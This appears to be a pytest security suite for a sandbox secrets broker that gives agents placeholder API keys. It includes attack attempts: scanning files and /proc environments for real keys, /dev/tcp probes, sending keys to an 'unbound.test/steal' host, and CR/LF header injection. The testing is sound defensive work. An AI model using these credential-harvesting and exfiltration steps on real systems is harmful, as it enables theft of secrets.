"""Secrets never enter the sandbox (SECURITY-CASES 23; docs/secrets.md).

One environment is baked from the template, with all five built-in secrets set on the host
(file backend, isolated HOME), and brought up with plain Compose: `dev` (the netkit image:
curl and python3), `proxy` and `broker`. A stand-in server (tests/docker/standin.py) answers on
the environment's `egress` network under the real API names, with a certificate from a test
CA that the broker is told to trust (``<config>/isofeat/broker-upstream-ca.pem``); it records
every request that reaches it, so each test says what the far end really received.

Every attack runs in `dev` as the agent (uid 1001) and is recorded with ``security_report``.
"""

from __future__ import annotations

import base64
import datetime
import io
import json
import re
import statistics
import subprocess
import tarfile
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from isofeat.cli import main

from .conftest import Env

pytestmark = pytest.mark.docker

HERE = Path(__file__).parent
CASE = "23"
BOUND = {
    "ANTHROPIC_API_KEY": ("api.anthropic.com", "x-api-key", "{}"),
    "CLAUDE_CODE_OAUTH_TOKEN": ("api.anthropic.com", "authorization", "Bearer {}"),
    "OPENAI_API_KEY": ("api.openai.com", "authorization", "Bearer {}"),
    "GEMINI_API_KEY": ("generativelanguage.googleapis.com", "x-goog-api-key", "{}"),
    "GITHUB_TOKEN": ("api.github.com", "authorization", "token {}"),
}
RULED = {"secret": "RULED_TOKEN", "hosts": ["api.github.com"], "header": "x-ruled-token",
         "methods": ["GET"], "paths": ["/repos/o/r/*"]}
AGENTS_TAG = "isofeat-test/agents:1"
NAMES = ["api.anthropic.com", "api.openai.com", "generativelanguage.googleapis.com",
         "github.com", "api.github.com", "unbound.test"]


def make_test_ca(names: list[str]) -> tuple[bytes, bytes, bytes]:
    """A test CA and a server certificate for ``names``: (CA cert, server cert, server key)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = datetime.datetime.now(datetime.timezone.utc)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "isofeat test upstream CA")])
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name)
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(now - datetime.timedelta(hours=1))
          .not_valid_after(now + datetime.timedelta(days=2))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()),
                         critical=False)
          .sign(ca_key, hashes.SHA256()))
    key = ec.generate_private_key(ec.SECP256R1())
    cert = (x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])]))
            .issuer_name(ca_name).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1))
            .not_valid_after(now + datetime.timedelta(days=2))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in names]),
                           critical=False)
            .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]),
                           critical=False)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(
                ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256()))
    pem = serialization.Encoding.PEM
    return (ca.public_bytes(pem), cert.public_bytes(pem),
            key.private_bytes(pem, serialization.PrivateFormat.PKCS8,
                              serialization.NoEncryption()))


class Brokered:
    """The running environment, the stand-in and the secrets' real values and placeholders."""

    def __init__(self, env: Env, standin: Any, real: dict[str, str], test_ca: Path,
                 ca_key_body: str) -> None:
        self.env = env
        self.standin = standin
        self.real = real
        self.test_ca = test_ca
        self.ca_key_body = ca_key_body
        secrets_env = Path(env.env["ISOFEAT_SECRETS_ENV"].strip("'"))
        pairs = [ln.split("=", 1) for ln in secrets_env.read_text().splitlines()
                 if ln and not ln.startswith("#")]
        self.dev_env = dict(pairs)
        self.placeholder = {name: self.dev_env[name] for name in real if name in self.dev_env}
        self.placeholder["GITHUB_TOKEN"] = self.dev_env["GH_TOKEN"]

    def agent(self, script: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        return self.env.agent(script, timeout=timeout)

    def curl(self, *args: str, timeout: float = 60) -> tuple[str, str]:
        """curl as the agent; returns ("STATUS CONNECT-STATUS rc=N", headers+body+stderr)."""
        quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in args)
        done = self.agent(f"curl -sS -m 20 -o /tmp/out -D /tmp/head "
                          "-w '%{http_code} %{http_connect}' "
                          f"{quoted}; echo \" rc=$?\"; cat /tmp/head /tmp/out 2>/dev/null",
                          timeout=timeout)
        first, _, rest = done.stdout.partition("\n")
        return first.strip(), rest + done.stderr

    def arrived(self) -> list[dict[str, Any]]:
        code, out = self.standin.exec_run(["cat", "/tmp/requests.jsonl"])
        if code != 0:
            return []
        return [json.loads(line) for line in out.decode().splitlines() if line]

    def reset(self) -> None:
        self.standin.exec_run(["rm", "-f", "/tmp/requests.jsonl"])

    def broker_log(self) -> str:
        return self.env.compose("logs", "--no-color", "broker", check=False).stdout

    def leaks(self, text: str) -> list[str]:
        """Names of the secrets whose real value appears in ``text``."""
        return [name for name, value in self.real.items() if value in text]


@pytest.fixture(scope="session")
def agents_image(docker_client: Any, netkit_image: str) -> str:
    """netkit plus Node and the real Claude Code, Codex and Gemini CLIs
    (tests/docker/agents/Dockerfile)."""
    try:
        docker_client.images.get(AGENTS_TAG)
    except Exception:  # docker.errors.ImageNotFound; build below
        docker_client.images.build(path=str(HERE / "agents"), tag=AGENTS_TAG, rm=True,
                                   buildargs={"BASE_IMAGE": netkit_image})
    return AGENTS_TAG


@pytest.fixture
def brokered(
    request: pytest.FixtureRequest,
    make_env: Callable[..., Env],
    isolated_home: Path,
    docker_client: Any,
    base_image: str,
    netkit_image: str,
    run_container: Callable[..., Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Brokered]:
    from isofeat import image_build

    image_build.ensure("broker", client=docker_client)
    # The base image's CA bundle, into the isolated state folder (as `image build` leaves it).
    image_build.export_base_bundle(docker_client, base_image,
                                   docker_client.images.get(base_image).id)
    real = {name: f"REAL-{name.lower()}-{uuid.uuid4().hex}" for name in [*BOUND, "RULED_TOKEN"]}
    # A user binding with rules: GET only, under /repos/o/r/ only.
    config = isolated_home / ".config" / "isofeat"
    config.mkdir(parents=True, exist_ok=True)
    (config / "bindings.json").write_text(json.dumps({"bindings": [RULED]}))
    for name, value in real.items():
        monkeypatch.setattr("sys.stdin", io.StringIO(value))
        assert main(["secrets", "set", name]) == 0
    ca_pem, cert_pem, key_pem = make_test_ca(NAMES)
    (config / "broker-upstream-ca.pem").write_bytes(ca_pem)
    files = tmp_path / "standin"
    files.mkdir()
    (files / "cert.pem").write_bytes(cert_pem)
    (files / "key.pem").write_bytes(key_pem)
    (files / "ca.pem").write_bytes(ca_pem)
    (files / "standin.py").write_bytes((HERE / "standin.py").read_bytes())
    files.chmod(0o755)
    for f in files.iterdir():
        f.chmod(0o644)

    # `dev` runs netkit, or (indirect parameter "agents") netkit with the real agent CLIs.
    dev_image = (request.getfixturevalue("agents_image")
                 if getattr(request, "param", None) == "agents" else netkit_image)
    env = make_env("secrets", base_image=dev_image, extra_whitelist="unbound.test")
    egress = docker_client.networks.get(f"{env.name}_egress")
    # With the agents' image the stand-in has git too, and serves real pushes.
    standin = run_container(
        dev_image, network=egress, aliases=NAMES,
        command=["python3", "/standin/standin.py", "/standin/cert.pem", "/standin/key.pem"],
        volumes={str(files): {"bind": "/standin", "mode": "ro"}},
    )
    deadline = time.monotonic() + 20
    while b"standin ready" not in standin.logs():
        assert time.monotonic() < deadline, standin.logs().decode()
        time.sleep(0.2)
    # The test CA, for requests to the unbound stand-in (dev does not trust it by itself).
    # Written through exec, not `docker cp`: /tmp is a tmpfs, which `docker cp` cannot see.
    subprocess.run(["docker", "exec", "-i", env.container_id("dev"), "sh", "-c",
                    "cat > /tmp/test-ca.pem"], input=(files / "ca.pem").read_bytes(),
                   check=True)
    broker_dir = Path(env.env["ISOFEAT_BROKER_CONF"].strip("'"))
    key_text = (broker_dir / "ca.pem").read_text()
    key_body = key_text.split("-----", 3)[2].strip().splitlines()[1]  # a line of the key
    yield Brokered(env, standin, real, files / "ca.pem", key_body)


def _header(entry: dict[str, Any], name: str) -> str | None:
    return next((v for k, v in entry["headers"] if k.lower() == name), None)


# --------------------------------------------------------------------------- positive


def test_the_agents_authenticate_with_the_real_value_and_see_placeholders(
    brokered: Brokered, security_report: Any
) -> None:
    b = brokered
    env_seen = b.agent("env").stdout
    for name, placeholder in b.placeholder.items():
        assert placeholder in env_seen, name
    assert not b.leaks(env_seen)
    assert "SSL_CERT_FILE=/run/isofeat/trust/ca-bundle.pem" in env_seen

    # As each agent sends its credential (curl with the header the CLI uses).
    for name, (host, header, form) in BOUND.items():
        var = "GH_TOKEN" if name == "GITHUB_TOKEN" else name
        b.reset()
        done = b.agent(f'curl -sS -o /dev/null -w "%{{http_code}}" https://{host}/v1/test'
                       f' -H "{header}: {form.format("$" + var)}" -d "{{}}"')
        status, out = done.stdout, done.stderr
        got = b.arrived()
        assert status.startswith("200"), (name, status, out, b.broker_log()[-2000:])
        assert len(got) == 1 and _header(got[0], header) == form.format(b.real[name]), got
        assert got[0]["sni"] == host and got[0]["tls"] is True

    # git over HTTPS: Basic auth with the token as the password (what a credential helper
    # that prints $GH_TOKEN makes git send).
    b.reset()
    status, out = b.agent('curl -sS -o /dev/null -w "%{http_code}" -u "x-access-token:$GH_TOKEN"'
                          ' "https://github.com/o/r.git/info/refs?service=git-upload-pack"'
                          ).stdout, ""
    got = b.arrived()
    expected = "Basic " + base64.b64encode(f"x-access-token:{b.real['GITHUB_TOKEN']}"
                                           .encode()).decode()
    assert status == "200" and _header(got[0], "authorization") == expected, (status, got)

    # The server echoes the credential back (body and headers): the agent sees placeholders.
    for name, (host, header, form) in BOUND.items():
        b.reset()
        status, out = b.curl(f"https://{host}/echo", "-H",
                             f"{header}: {form.format(b.placeholder[name])}")
        arrived = b.arrived()
        security_report.attack(
            CASE, f"read the real {name} from a server that echoes it back (body, headers)",
            expected="the far end got the real value; the agent reads only the placeholder",
            observed=f"status {status}; real value at the server: "
                     f"{bool(arrived) and b.real[name] in json.dumps(arrived)}; in the answer: "
                     f"{bool(b.leaks(out))}; placeholder in the answer: "
                     f"{b.placeholder[name] in out}",
            ok=status.startswith("200") and not b.leaks(out) and b.placeholder[name] in out
            and b.real[name] in json.dumps(arrived),
        )
    b.reset()
    status, out = b.agent('curl -sS -D - -u "x-access-token:$GH_TOKEN" https://github.com/echo'
                          ).stdout, ""
    security_report.attack(
        CASE, "read the GitHub token back from an echo of its Basic header",
        expected="the Basic token the broker sent is replaced by the agent's own",
        observed=f"leaks: {b.leaks(status)}; Basic token echoed to the agent: "
                 f"{expected.split()[1] in status}",
        ok=not b.leaks(status) and expected.split()[1] not in status and "x-echo" in status,
    )
    log = b.broker_log()
    assert '"event": "forwarded"' in log and not b.leaks(log)


@pytest.mark.parametrize("brokered", ["agents"], indirect=True)
def test_the_real_claude_cli_and_git_authenticate_with_placeholders(
    brokered: Brokered, security_report: Any
) -> None:
    b = brokered
    b.reset()
    done = b.agent("cd /tmp && HOME=/tmp/claude-home timeout 120 claude -p 'say hi' 2>&1;"
                   " echo rc=$?", timeout=180)
    messages = [a for a in b.arrived() if a["path"].startswith("/v1/messages")]
    keys = {_header(a, "x-api-key") for a in messages}
    print(done.stdout[-2000:], [a["path"] for a in b.arrived()])
    security_report.attack(
        CASE, "the real Claude Code CLI (claude -p) with ANTHROPIC_API_KEY = the placeholder",
        expected="the stand-in API gets the real key in x-api-key; claude prints its reply",
        observed=f"{len(messages)} /v1/messages request(s); real key arrived "
                 f"{keys == {b.real['ANTHROPIC_API_KEY']}}; reply shown "
                 f"{'STANDIN-REPLY' in done.stdout}; leaks to the agent {b.leaks(done.stdout)}",
        ok=bool(messages) and keys == {b.real["ANTHROPIC_API_KEY"]}
        and "STANDIN-REPLY" in done.stdout and not b.leaks(done.stdout),
    )
    # git over HTTPS with a credential helper that hands git the placeholder.
    b.reset()
    helper = "!f() { echo username=x-access-token; echo \"password=$GH_TOKEN\"; }; f"
    done = b.agent(f"cd /tmp && HOME=/tmp/git-home git -c credential.helper='{helper}' "
                   "ls-remote https://github.com/o/r.git 2>&1; echo rc=$?")
    auths = [_header(a, "authorization") for a in b.arrived()]
    expected = "Basic " + base64.b64encode(
        f"x-access-token:{b.real['GITHUB_TOKEN']}".encode()).decode()
    security_report.attack(
        CASE, "git ls-remote https://github.com/... with a credential helper giving $GH_TOKEN",
        expected="401 first, then the real token in git's Basic header; none in git's output",
        observed=f"authorizations at the server: {[a is not None for a in auths]}; real token "
                 f"in Basic: {expected in auths}; leaks to the agent {b.leaks(done.stdout)}",
        ok=auths[:1] == [None] and expected in auths and not b.leaks(done.stdout),
    )


def _real_cli(b: Brokered, security_report: Any, what: str, script: str, secret: str,
              api_path: str) -> None:
    """Run a real agent CLI in `dev` as the agent (``script``, from /tmp) and record whether
    it got the stand-in's reply, and every request that reached the stand-in for the secret's
    host carried exactly the real value in the bound header (the placeholder nowhere)."""
    host, header, form = BOUND[secret]
    b.reset()
    done = b.agent(f"cd /tmp && {script} 2>&1; echo rc=$?", timeout=300)
    arrived = b.arrived()
    at_host = [a for a in arrived if a["sni"] == host]
    calls = [a for a in at_host if urlsplit(a["path"]).path.startswith(api_path)]
    # None when a request came without the header: that fails too.
    creds = {_header(a, header) for a in at_host}
    placeholder_seen = b.placeholder[secret] in json.dumps(arrived)
    print(done.stdout[-3000:], [(a["method"], a["sni"], a["path"]) for a in arrived])
    security_report.attack(
        CASE, what,
        expected=f"every request to {host} reaches the stand-in with the real key in {header}; "
                 "the CLI prints the stand-in's reply",
        observed=f"{len(calls)} {api_path} request(s) of {len(at_host)} to {host}; only the "
                 f"real key arrived {creds == {form.format(b.real[secret])}}; placeholder at "
                 f"the server {placeholder_seen}; reply shown {'STANDIN-REPLY' in done.stdout}; "
                 f"leaks to the agent {b.leaks(done.stdout)}; {done.stdout.strip()[-80:]}",
        ok=bool(calls) and creds == {form.format(b.real[secret])} and not placeholder_seen
        and "STANDIN-REPLY" in done.stdout and not b.leaks(done.stdout),
    )


@pytest.mark.parametrize("brokered", ["agents"], indirect=True)
def test_the_real_codex_cli_authenticates_with_the_placeholder(
    brokered: Brokered, security_report: Any
) -> None:
    # `codex exec` (0.171) reads its key from CODEX_API_KEY or from `codex login`, not from
    # OPENAI_API_KEY; the built-in binding puts the placeholder in both, so no login is
    # needed. It first tries the Responses API over a WebSocket (GET /v1/responses), then
    # falls back to POST /v1/responses with server-sent events; it trusts SSL_CERT_FILE.
    _real_cli(
        brokered, security_report,
        "the real Codex CLI (codex exec) with CODEX_API_KEY = the placeholder, no login",
        "HOME=/tmp/codex-home timeout 240 codex exec --skip-git-repo-check 'say hi'",
        "OPENAI_API_KEY", "/v1/responses",
    )


@pytest.mark.parametrize("brokered", ["agents"], indirect=True)
def test_the_real_gemini_cli_authenticates_with_the_placeholder(
    brokered: Brokered, security_report: Any
) -> None:
    # `gemini -p` takes GEMINI_API_KEY from the environment and sends it in x-goog-api-key;
    # it routes through HTTPS_PROXY and trusts NODE_EXTRA_CA_CERTS. --skip-trust: /tmp is not
    # a trusted folder, and headless mode refuses to start in one otherwise.
    _real_cli(
        brokered, security_report,
        "the real Gemini CLI (gemini -p) with GEMINI_API_KEY = the placeholder",
        "HOME=/tmp/gemini-home timeout 240 gemini --skip-trust -p 'say hi'",
        "GEMINI_API_KEY", "/v1beta/models/",
    )


@pytest.mark.parametrize("brokered", ["agents"], indirect=True)
def test_a_real_git_push_lands_with_the_real_token_and_a_placeholder_helper(
    brokered: Brokered, security_report: Any
) -> None:
    """git push over HTTPS to a real git server (the stand-in runs `git http-backend` as
    github.com), with a credential helper that gives git the placeholder in $GH_TOKEN."""
    b = brokered
    b.reset()
    helper = "!f() { echo username=x-access-token; echo \"password=$GH_TOKEN\"; }; f"
    done = b.agent(
        "set -e; export HOME=/tmp/push-home; cd /tmp; rm -rf push; git init -q -b main push;"
        " cd push; echo work > file; git add file;"
        " git -c user.name=agent -c user.email=agent@example.invalid commit -q -m work;"
        f" git -c credential.helper='{helper}' push https://github.com/o/r.git"
        " HEAD:refs/heads/task/x 2>&1; echo sha=$(git rev-parse HEAD)", timeout=180)
    sha = done.stdout.rpartition("sha=")[2].strip()
    landed = b.standin.exec_run(["git", "--git-dir", "/tmp/git/o/r.git", "rev-parse",
                                 "refs/heads/task/x"]).output.decode().strip()  # fmt: skip
    arrived = b.arrived()
    expected = "Basic " + base64.b64encode(
        f"x-access-token:{b.real['GITHUB_TOKEN']}".encode()).decode()
    auths = [_header(a, "authorization") for a in arrived]
    pushes = [a for a in arrived if "git-receive-pack" in a["path"]]
    placeholder_seen = b.placeholder["GITHUB_TOKEN"] in json.dumps(arrived)
    security_report.attack(
        CASE, "git push to https://github.com/o/r.git with a credential helper giving $GH_TOKEN",
        expected="the commit lands in the server's repository; every authorized request "
                 "carries the real token; the placeholder never arrives; no token in git's "
                 "output",
        observed=f"landed {bool(sha) and landed == sha}; {len(pushes)} receive-pack "
                 f"request(s); authorizations {sorted({a is not None for a in auths})}, real "
                 f"{set(auths) - {None} == {expected}}; placeholder at the server "
                 f"{placeholder_seen}; leaks to the agent {b.leaks(done.stdout)}; "
                 f"{done.stdout.strip()[-120:]}",
        ok=bool(sha) and landed == sha and bool(pushes) and set(auths) - {None} == {expected}
        and not placeholder_seen and not b.leaks(done.stdout),
    )


# --------------------------------------------------------------------------- attacks


def test_the_agent_finds_no_real_value_in_files_or_processes(
    brokered: Brokered, security_report: Any
) -> None:
    b = brokered
    # Every file the agent can read, streamed out as a tar and searched here: a search inside
    # `dev` would itself put the value on a command line.
    dev = b.env.container_id("dev")
    proc = subprocess.run(
        ["docker", "exec", "-u", "1001:2000", dev, "tar", "-c", "-f", "-", "--ignore-failed-read",
         "--exclude=./proc", "--exclude=./sys", "--exclude=./dev", "-C", "/", "."],
        capture_output=True, check=False, timeout=600,
    )  # fmt: skip
    files = leaked = 0
    key_found = []
    with tarfile.open(fileobj=io.BytesIO(proc.stdout), mode="r|") as tar:
        for member in tar:
            if not member.isfile():
                continue
            handle = tar.extractfile(member)
            data = handle.read().decode("latin-1") if handle else ""
            files += 1
            if b.leaks(data):
                leaked += 1
                print("LEAK in", member.name)
            if b.ca_key_body in data:
                key_found.append(member.name)
    security_report.attack(
        CASE, "read every file the agent can read and search it for the real values",
        expected="no real value anywhere", observed=f"{files} files read, {leaked} with a value",
        ok=files > 1000 and leaked == 0, tried=files, failed=leaked,
    )
    security_report.attack(
        CASE, "find the broker's CA private key among the agent's files (trust mount included)",
        expected="absent: only the CA certificate is mounted", observed=key_found or "absent",
        ok=not key_found, tried=files,
    )
    # The environment and command line of every process the agent can see.
    script = ("for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done;"
              " echo COUNT=$(ls -d /proc/[0-9]* | wc -l)")
    out = b.agent(script).stdout
    count = out.rsplit("COUNT=", 1)[-1]
    security_report.attack(
        CASE, "read the environment and command line of every process visible in dev",
        expected="placeholders only; the broker's processes are not visible",
        observed=f"{count.strip()} processes, leaks {b.leaks(out)}, broker visible "
                 f"{'mitmdump' in out}",
        ok=not b.leaks(out) and "mitmdump" not in out and any(
            p in out for p in b.placeholder.values()),
    )
    # The broker itself, as a peer: not on the sandbox network, and denied by the proxy.
    direct = b.agent("getent hosts broker || echo NO-NAME; timeout 5 bash -c "
                     "'exec 3<>/dev/tcp/broker/8080' 2>&1 || echo NO-CONNECT").stdout
    via_proxy, out = b.curl("http://broker:8080/")
    connect, _ = b.curl("-p", "-x", "http://proxy:8888", "https://broker:8080/")
    mitm, _ = b.curl("http://mitm.it/cert/pem")
    security_report.attack(
        CASE, "ask the broker for its CA key: directly, through the proxy, and at mitm.it",
        expected="no name, no route; the proxy refuses broker and mitm.it",
        observed=f"direct: {direct.split()}; GET via proxy {via_proxy}; CONNECT {connect}; "
                 f"mitm.it {mitm}",
        ok="NO-NAME" in direct and "NO-CONNECT" in direct and via_proxy.startswith("403")
        and mitm.startswith("403") and not connect.startswith("200"),
    )


def test_a_placeholder_is_worth_nothing_anywhere_else(
    brokered: Brokered, security_report: Any
) -> None:
    b = brokered
    key = b.placeholder["ANTHROPIC_API_KEY"]
    rows: list[tuple[str, str, str, object, bool]] = []

    def attempt(what: str, expected: str, *curl_args: str, want: str = "403") -> None:
        b.reset()
        status, out = b.curl(*curl_args)
        arrived = b.arrived()
        leaked = b.leaks(json.dumps(arrived)) + b.leaks(out)
        rows.append((CASE, what, expected,
                     f"status {status}; reached the server {len(arrived)}x; leaks {leaked}",
                     want in status.split()[:2] and not leaked and not arrived))

    # An allowed host that is not bound: tinyproxy relays the tunnel untouched.
    b.reset()
    status, _ = b.curl("--cacert", "/tmp/test-ca.pem", "https://unbound.test/steal",
                         "-H", f"x-api-key: {key}", "-H", f"authorization: Bearer {key}")
    arrived = b.arrived()
    rows.append((CASE, "send the placeholder to an allowed host that is not bound",
                 "forwarded as is: the host gets the placeholder, never the value",
                 f"status {status}; arrived {[_header(a, 'x-api-key') for a in arrived]}",
                 status.startswith("200") and len(arrived) == 1
                 and _header(arrived[0], "x-api-key") == key and not b.leaks(json.dumps(arrived))))
    attempt("placeholder in the URL of a bound host", "refused by the broker (403), logged",
            f"https://api.anthropic.com/v1/x?key={key}")
    attempt("placeholder in another header of a bound host", "refused (403), logged",
            "https://api.anthropic.com/v1/x", "-H", f"x-forwarded-note: {key}")
    attempt("placeholder in the body to a bound host", "refused (403), logged",
            "https://api.anthropic.com/v1/x", "-d", json.dumps({"prompt": key}))
    attempt("another binding's placeholder in the bound header (OpenAI's key to Anthropic)",
            "refused (403)", "https://api.anthropic.com/v1/x",
            "-H", f"x-api-key: {b.placeholder['OPENAI_API_KEY']}")
    attempt("Anthropic's placeholder to api.openai.com in its bound header",
            "refused (403)", "https://api.openai.com/v1/x", "-H", f"authorization: Bearer {key}")
    attempt("the bound header twice", "refused (403)", "https://api.anthropic.com/v1/x",
            "-H", f"x-api-key: {key}", "-H", f"X-Api-Key: {key}")
    attempt("a Host header that names another host", "refused (403)",
            "https://api.anthropic.com/v1/x", "-H", "Host: unbound.test", "-H", f"x-api-key: {key}")
    attempt("downgrade: plain HTTP to the bound host", "refused (403): only TLS gets values",
            "http://api.anthropic.com/v1/x", "-H", f"x-api-key: {key}")
    standin_ip = b.standin.attrs["NetworkSettings"]["Networks"][
        f"{b.env.name}_egress"]["IPAddress"]
    attempt("the bound host by IP address", "refused by the proxy's whitelist (403)",
            f"https://{standin_ip}/v1/x", "-k", "-H", f"x-api-key: {key}")
    attempt("a lookalike name (api.anthropic.com.unbound.test)", "refused by the proxy (403)",
            "https://api.anthropic.com.unbound.test/v1/x", "-k", "-H", f"x-api-key: {key}")
    attempt("the bound name with a trailing dot", "refused by the proxy (403)",
            "https://api.anthropic.com./v1/x", "-H", f"x-api-key: {key}")
    # CONNECT to the bound host, TLS with another name (SNI): the environment's CA may sign
    # for bound names only (name constraints), so curl refuses the certificate; with -k the
    # broker refuses the request.
    b.reset()
    status, why = b.curl("--connect-to", "unbound.test:443:api.anthropic.com:443",
                         "https://unbound.test/v1/x", "-H", f"x-api-key: {key}")
    status_k, _ = b.curl("-k", "--connect-to", "unbound.test:443:api.anthropic.com:443",
                             "https://unbound.test/v1/x", "-H", f"x-api-key: {key}")
    arrived = b.arrived()
    rows.append((CASE, "CONNECT to the bound host with another SNI (unbound.test)",
                 "certificate refused by the client (name constraints); with -k the broker "
                 "refuses (403)",
                 f"verified: {status} ({why.strip()[-80:]}); -k: {status_k}; arrived "
                 f"{len(arrived)}",
                 "rc=60" in status and "permitted subtree violation" in why
                 and "403" in status_k.split()[:2] and not arrived))
    # Upper case: names are case-insensitive, and tinyproxy's upstream rule and the broker
    # agree: it is the bound host, and gets the value; the agent still sees none.
    b.reset()
    status, out = b.curl("https://API.ANTHROPIC.COM/v1/x", "-H", f"x-api-key: {key}")
    arrived = b.arrived()
    rows.append((CASE, "the bound name in upper case (API.ANTHROPIC.COM)",
                 "the same host: through the broker (the server gets the value), the agent "
                 "sees none",
                 f"status {status}; server got the value {len(arrived) == 1 and _header(arrived[0], 'x-api-key') == b.real['ANTHROPIC_API_KEY']}; "  # noqa: E501
                 f"leaks to the agent {b.leaks(out)}",
                 status.startswith("200") and len(arrived) == 1
                 and _header(arrived[0], "x-api-key") == b.real["ANTHROPIC_API_KEY"]
                 and not b.leaks(out)))
    # Header injection: a bare CR or LF inside a header value, sent raw through the tunnel.
    inject = (
        "import os, socket, ssl, sys\n"
        "s = socket.create_connection(('proxy', 8888), timeout=10)\n"
        "s.sendall(b'CONNECT api.anthropic.com:443 HTTP/1.1\\r\\nHost: api.anthropic.com:443"
        "\\r\\n\\r\\n')\n"
        "head = b''\n"
        "while b'\\r\\n\\r\\n' not in head: head += s.recv(1)\n"
        "t = ssl.create_default_context().wrap_socket(s, server_hostname='api.anthropic.com')\n"
        "k = os.environ['ANTHROPIC_API_KEY'].encode()\n"
        "t.sendall(b'GET /v1/x HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\nX-Note: a\\rx-api-key: '"
        " + k + b'\\r\\nx-api-key: ' + k + b'\\nX-Evil: 1\\r\\n\\r\\n')\n"
        "print(t.recv(200).split(b'\\r\\n')[0].decode())\n"
    )
    b.reset()
    done = b.agent(f"python3 - <<'PYEOF'\n{inject}PYEOF\n")
    arrived = b.arrived()
    rows.append((CASE, "inject headers with bare CR and LF next to the placeholder",
                 "the broker refuses the malformed request (4xx); nothing reaches the server",
                 f"{done.stdout.strip()} {done.stderr.strip()[-200:]}; arrived {len(arrived)}",
                 re.search(r"HTTP/1\.1 4\d\d", done.stdout) is not None and not arrived))
    security_report.many("attack", rows)
    log = b.broker_log()
    assert '"event": "refused"' in log and "placeholder in the url" in log.lower()
    assert not b.leaks(log)


def test_a_credential_with_rules_goes_only_into_allowed_methods_and_paths(
    brokered: Brokered, security_report: Any
) -> None:
    b = brokered
    key = b.placeholder["RULED_TOKEN"]
    header = f"x-ruled-token: {key}"
    rows: list[tuple[str, str, str, object, bool]] = []
    for what, args, allowed in [
        ("GET under the allowed path", ["https://api.github.com/repos/o/r/issues"], True),
        ("POST under the allowed path", ["-X", "POST", "https://api.github.com/repos/o/r/x"],
         False),
        ("GET outside the allowed path", ["https://api.github.com/repos/o/other/x"], False),
        ("dot segments out of the allowed path",
         ["--path-as-is", "https://api.github.com/repos/o/r/../../o/other/x"], False),
        ("an encoded dot segment", ["https://api.github.com/repos/o/r/%2e%2e/other"], False),
        ("a double slash", ["--path-as-is", "https://api.github.com/repos/o/r//x"], False),
    ]:
        b.reset()
        status, out = b.curl(*args, "-H", header)
        arrived = b.arrived()
        got = [_header(a, "x-ruled-token") for a in arrived]
        ok = (status.startswith("200") and got == [b.real["RULED_TOKEN"]] if allowed
              else status.startswith("403") and not arrived)
        rows.append((CASE, f"rules GET /repos/o/r/*: {what}",
                     "substituted" if allowed else "refused (403), nothing sent",
                     f"status {status}; arrived {len(arrived)}; leaks {b.leaks(out)}",
                     ok and not b.leaks(out)))
    security_report.many("attack", rows)
    assert "method or path not allowed" in b.broker_log()


def test_with_the_broker_down_nothing_gets_through(brokered: Brokered, security_report: Any
                                                   ) -> None:
    b = brokered
    subprocess.run(["docker", "kill", b.env.container_id("broker")], check=True,
                   capture_output=True)
    b.reset()
    status, out = b.curl("https://api.anthropic.com/v1/x", "-H",
                         f"x-api-key: {b.placeholder['ANTHROPIC_API_KEY']}")
    arrived = b.arrived()
    plain, _ = b.curl("http://api.anthropic.com/v1/x", "-H",
                      f"x-api-key: {b.placeholder['ANTHROPIC_API_KEY']}")
    other, _ = b.curl("--cacert", "/tmp/test-ca.pem", "https://unbound.test/still-works")
    bound_arrivals = [a for a in b.arrived() if a["path"] != "/still-works"]
    security_report.fault(
        "fault: broker", "kill the broker, then call a bound host (HTTPS and plain HTTP)",
        expected="a clear proxy error; nothing reaches the server; unbound hosts still work",
        observed=f"HTTPS {status}; HTTP {plain}; bound requests at the server "
                 f"{len(bound_arrivals)}; unbound host {other}; {out.strip()[:160]}",
        ok=not status.startswith("200") and not plain.startswith("200") and not arrived
        and not bound_arrivals and other.startswith("200"),
    )
    written = b.agent("grep -rl -F isofeat-placeholder /tmp /workspace /home 2>/dev/null "
                      "| head; ls /tmp").stdout
    assert not b.leaks(written)


def test_the_broker_cost_per_request_and_for_a_200_mb_download(
    brokered: Brokered, security_report: Any
) -> None:
    b = brokered
    key = b.placeholder["ANTHROPIC_API_KEY"]
    n = 30
    loop = ("for i in $(seq {n}); do curl -sS -o /dev/null -w '%{{time_total}}\\n' {args}; done")
    bound = b.agent(loop.format(n=n, args=f"-H 'x-api-key: {key}' https://api.anthropic.com/s"))
    direct = b.agent(loop.format(n=n, args="--cacert /tmp/test-ca.pem https://unbound.test/s"))
    t_bound = [float(x) for x in bound.stdout.split()]
    t_direct = [float(x) for x in direct.stdout.split()]
    assert len(t_bound) == n and len(t_direct) == n, (bound.stderr, direct.stderr)
    big = "curl -sS -o /dev/null -w '%{{time_total}} %{{size_download}}' {args}"
    d_bound = b.agent(big.format(args=f"-H 'x-api-key: {key}' "
                                      "'https://api.anthropic.com/big?mb=200'"), timeout=600)
    d_direct = b.agent(big.format(args="--cacert /tmp/test-ca.pem "
                                       "'https://unbound.test/big?mb=200'"), timeout=600)
    sb, size_b = d_bound.stdout.split()
    sd, size_d = d_direct.stdout.split()
    med_b, med_d = statistics.median(t_bound), statistics.median(t_direct)
